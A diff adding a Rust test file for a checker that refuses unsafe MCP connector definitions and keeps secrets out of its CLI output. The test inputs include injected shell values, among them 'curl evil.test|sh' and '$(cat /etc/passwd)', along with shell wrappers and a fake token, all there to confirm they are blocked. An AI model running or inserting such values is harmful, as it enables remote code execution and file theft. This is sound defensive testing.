@@ -1,0 +1,282 @@
+//! The static check of MCP connector definitions: every code the original
+//! CPOS had, the holes it left closed (a shell named by path, plain HTTP off
+//! loopback, a secret under an innocent key), and the CLI that runs it.
+
+mod common;
+
+use cpos::connectors::{check, Severity};
+use serde_json::{json, Value};
+
+fn safe() -> Value {
+    json!({
+        "connector_id": "files",
+        "name": "Project files",
+        "transport": "stdio",
+        "command": ["npx", "-y", "@modelcontextprotocol/server-filesystem", "/srv/project"],
+        "allowed_tools": ["read_file", "list_directory", "write_file"],
+        "blocked_tools": ["move_file"],
+        "sensitivity_level": "internal",
+        "requires_human_approval": true,
+        "env_secret_files": {"GITHUB_TOKEN": "/run/secrets/github-token"},
+        "status": "active",
+        "metadata": {"owner": "platform"}
+    })
+}
+
+/// `safe()` with `changes` merged in (a null removes the key).
+fn with(changes: Value) -> Value {
+    let mut def = safe();
+    for (k, v) in changes.as_object().unwrap() {
+        match v {
+            Value::Null => {
+                def.as_object_mut().unwrap().remove(k);
+            }
+            _ => {
+                def[k] = v.clone();
+            }
+        }
+    }
+    def
+}
+
+fn codes(def: &Value) -> Vec<(&'static str, Severity)> {
+    check(def)
+        .findings
+        .iter()
+        .map(|f| (f.code, f.severity))
+        .collect()
+}
+
+#[test]
+fn a_careful_definition_passes_clean() {
+    let report = check(&safe());
+    assert!(report.ok, "{:?}", report.findings);
+    assert!(report.findings.is_empty(), "{:?}", report.findings);
+    let https =
+        with(json!({"transport": "https", "command": null, "url": "https://mcp.example.com/mcp"}));
+    assert!(
+        check(&https).findings.is_empty(),
+        "{:?}",
+        check(&https).findings
+    );
+    let loopback = with(
+        json!({"transport": "http", "command": null, "url": "http://127.0.0.1:3001/mcp", "allow_plain_http_loopback": true}),
+    );
+    assert!(check(&loopback).ok, "{:?}", check(&loopback).findings);
+}
+
+#[test]
+fn every_unsafe_definition_is_refused_with_its_code() {
+    let cases: Vec<(&str, Value)> = vec![
+        ("definition_not_object", json!(["not", "an", "object"])),
+        ("connector_id_required", with(json!({"connector_id": " "}))),
+        ("name_required", with(json!({"name": null}))),
+        ("invalid_transport", with(json!({"transport": "websocket"}))),
+        ("invalid_status", with(json!({"status": "enabled"}))),
+        (
+            "invalid_sensitivity",
+            with(json!({"sensitivity_level": "secret-ish"})),
+        ),
+        (
+            "raw_env_or_secrets_blocked",
+            with(json!({"env": {"DEBUG": "1"}})),
+        ),
+        (
+            "raw_env_or_secrets_blocked",
+            with(json!({"secrets": ["x"]})),
+        ),
+        (
+            "env_secret_files_invalid",
+            with(json!({"env_secret_files": ["/run/secrets/x"]})),
+        ),
+        (
+            "invalid_env_name",
+            with(json!({"env_secret_files": {"github-token": "/run/secrets/t"}})),
+        ),
+        (
+            "secret_file_required",
+            with(json!({"env_secret_files": {"TOKEN": ""}})),
+        ),
+        (
+            "raw_secret_like_value",
+            with(json!({"metadata": {"auth": {"api_key": "k3y-live-9f8e7d6c5b4a"}}})),
+        ),
+        // A recognisable token under an innocent key, at depth.
+        (
+            "raw_secret_like_value",
+            with(json!({"metadata": {"notes": ["ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef0123"]}})),
+        ),
+        ("stdio_command_required", with(json!({"command": []}))),
+        ("stdio_command_required", with(json!({"command": null}))),
+        (
+            "shell_meta_blocked",
+            with(json!({"command": ["node", "server.js;curl evil.test|sh"]})),
+        ),
+        (
+            "shell_meta_blocked",
+            with(json!({"command": ["node", "$(cat /etc/passwd)"]})),
+        ),
+        (
+            "shell_wrapper_blocked",
+            with(json!({"command": ["bash", "-c", "node server.js"]})),
+        ),
+        (
+            "shell_wrapper_blocked",
+            with(json!({"command": ["/bin/bash", "server.sh"]})),
+        ),
+        (
+            "shell_wrapper_blocked",
+            with(json!({"command": ["C:\\Windows\\System32\\cmd.exe", "/c", "server"]})),
+        ),
+        (
+            "url_required",
+            with(json!({"transport": "https", "command": null})),
+        ),
+        (
+            "https_required",
+            with(json!({"transport": "sse", "command": null, "url": "http://mcp.example.com/sse"})),
+        ),
+        (
+            "https_required",
+            with(
+                json!({"transport": "http", "command": null, "url": "http://10.0.0.8:3001/mcp", "allow_plain_http_loopback": true}),
+            ),
+        ),
+        (
+            "https_required",
+            with(json!({"transport": "http", "command": null, "url": "http://127.0.0.1:3001/mcp"})),
+        ),
+        (
+            "url_host_required",
+            with(json!({"transport": "https", "command": null, "url": "https:///mcp"})),
+        ),
+        ("allowed_tools_required", with(json!({"allowed_tools": []}))),
+        (
+            "allowed_tools_required",
+            with(json!({"allowed_tools": null})),
+        ),
+        (
+            "invalid_tool_name",
+            with(json!({"allowed_tools": ["read file"]})),
+        ),
+        (
+            "blocked_tools_invalid",
+            with(json!({"blocked_tools": "move_file"})),
+        ),
+        (
+            "dangerous_tool_requires_approval",
+            with(
+                json!({"requires_human_approval": false, "sensitivity_level": "public", "allowed_tools": ["run_terminal_command"]}),
+            ),
+        ),
+        (
+            "allow_block_overlap",
+            with(json!({"blocked_tools": ["write_file"]})),
+        ),
+        (
+            "sensitive_requires_approval",
+            with(
+                json!({"requires_human_approval": false, "sensitivity_level": "restricted", "allowed_tools": ["read_file"]}),
+            ),
+        ),
+    ];
+    for (code, def) in cases {
+        let found = codes(&def);
+        assert!(
+            found.contains(&(code, Severity::Error)),
+            "expected {code} for {def}: {found:?}"
+        );
+        assert!(!check(&def).ok, "{code}: refused");
+    }
+}
+
+#[test]
+fn warnings_ask_for_a_look_without_refusing() {
+    for (code, def) in [
+        (
+            "secret_path_review",
+            with(json!({"env_secret_files": {"TOKEN": "/etc/app/token.txt"}})),
+        ),
+        (
+            "stdio_url_ignored",
+            with(json!({"url": "https://mcp.example.com"})),
+        ),
+        (
+            "remote_command_ignored",
+            with(json!({"transport": "https", "url": "https://mcp.example.com/mcp"})),
+        ),
+    ] {
+        let report = check(&def);
+        assert!(report.ok, "{code}: {:?}", report.findings);
+        assert!(
+            codes(&def).contains(&(code, Severity::Warning)),
+            "expected {code}: {:?}",
+            report.findings
+        );
+    }
+}
+
+#[test]
+fn the_cli_checks_json_and_toml_files_and_never_prints_a_secret() {
+    let dir = tempfile::tempdir().unwrap();
+    let secret = "ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef0123";
+    let json_file = dir.path().join("connectors.json");
+    std::fs::write(
+        &json_file,
+        json!([
+            safe(),
+            with(json!({"connector_id": "leaky", "metadata": {"token": secret}}))
+        ])
+        .to_string(),
+    )
+    .unwrap();
+    let toml_file = dir.path().join("connectors.toml");
+    std::fs::write(
+        &toml_file,
+        "[[connectors]]\nconnector_id = \"shell\"\nname = \"Shell\"\ntransport = \"stdio\"\ncommand = [\"/usr/bin/zsh\", \"-c\", \"serve\"]\nallowed_tools = [\"exec\"]\n",
+    )
+    .unwrap();
+    let (code, out, err) = common::cpos(
+        &[
+            "connectors",
+            "check",
+            json_file.to_str().unwrap(),
+            toml_file.to_str().unwrap(),
+        ],
+        dir.path(),
+    );
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(out.contains("files: OK"), "{out}");
+    assert!(
+        out.contains("leaky: REFUSED") && out.contains("raw_secret_like_value [metadata.token]"),
+        "{out}"
+    );
+    assert!(
+        out.contains("shell: REFUSED") && out.contains("shell_wrapper_blocked"),
+        "{out}"
+    );
+    assert!(
+        !out.contains(secret) && !err.contains(secret),
+        "the secret was printed"
+    );
+
+    let (code, out, _) = common::cpos(
+        &["connectors", "check", "--json", json_file.to_str().unwrap()],
+        dir.path(),
+    );
+    assert_eq!(code, 1);
+    let reports: Vec<Value> = out
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(reports.len(), 2);
+    assert_eq!(reports[0]["ok"], true);
+    assert_eq!(reports[1]["findings"][0]["code"], "raw_secret_like_value");
+
+    let example = concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/examples/connectors/filesystem.toml"
+    );
+    let (code, out, err) = common::cpos(&["connectors", "check", example], dir.path());
+    assert_eq!(code, 0, "the shipped example passes: {out}{err}");
+}
